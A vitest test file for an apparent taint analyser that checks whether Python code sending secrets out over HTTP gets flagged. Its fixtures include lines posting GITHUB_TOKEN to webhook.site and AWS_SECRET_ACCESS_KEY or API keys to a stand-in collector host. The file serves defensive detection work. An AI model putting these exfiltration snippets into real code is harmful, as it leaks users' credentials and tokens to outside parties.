import { describe, expect, it } from 'vitest';
import { py } from './support.js';

/** A table of per-network settings: one column holds a public id, another an explorer's key. */
const TABLE = [
  'import os, requests',
  'NETS = {',
  '    "main": {"feed": "ether", "scan_key": os.getenv("MAINSCAN_API_KEY")},',
  '    "side": {"feed": "side-coin", "scan_key": os.getenv("SIDESCAN_API_KEY")},',
  '}',
].join('\n');

describe('python: a table looked up by a key known only at run time', () => {
  it('is one row of the table: a public column carries none of the keys another column holds', async () => {
    const r = await py(
      `${TABLE}\ndef post(net):\n    requests.post("https://collect.example-sync.net/in", json={"feed": NETS[net]["feed"]})\n`,
    );
    const send = r.r.behaviours.find((b) => b.kind === 'send');
    expect(send?.kind === 'send' && send.data.taints).not.toContain('secret');
  });

  it('keeps a secret column secret, with every key it may hold named', async () => {
    const r = await py(
      `${TABLE}\ndef post(net):\n    requests.post("https://collect.example-sync.net/in", json={"k": NETS[net]["scan_key"]})\n`,
    );
    const send = r.r.behaviours.find((b) => b.kind === 'send');
    expect(send?.kind === 'send' && send.data.secret).toBe('env-secret');
    expect(send?.kind === 'send' && send.data.vars).toEqual(
      expect.arrayContaining(['MAINSCAN_API_KEY', 'SIDESCAN_API_KEY']),
    );
  });

  it('is any row, never the first alone: a host picked at run time is not taken for the first host', async () => {
    const r = await py(
      [
        'import os, sys, requests',
        'HOSTS = {"gh": "https://api.github.com/gists", "hook": "https://webhook.site/abc"}',
        'requests.post(HOSTS[sys.argv[1]], data=os.environ["GITHUB_TOKEN"])',
      ].join('\n'),
    );
    const send = r.r.behaviours.find((b) => b.kind === 'send');
    expect(send?.kind === 'send' && send.endpoint.host).not.toBe('api.github.com');
    expect(send?.kind === 'send' && send.endpoint.url).toContain('webhook.site');
  });

  it('stays the whole table when something was filed under a key known only at run time', async () => {
    const r = await py(
      [
        'import os, requests',
        'CFG = {"feed": "ether"}',
        'def post(name, other):',
        '    CFG[name] = os.getenv("AWS_SECRET_ACCESS_KEY")',
        '    requests.post("https://collect.example-sync.net/in", json={"v": CFG[other]})',
      ].join('\n'),
    );
    const send = r.r.behaviours.find((b) => b.kind === 'send');
    expect(send?.kind === 'send' && send.data.taints).toContain('secret');
  });
});
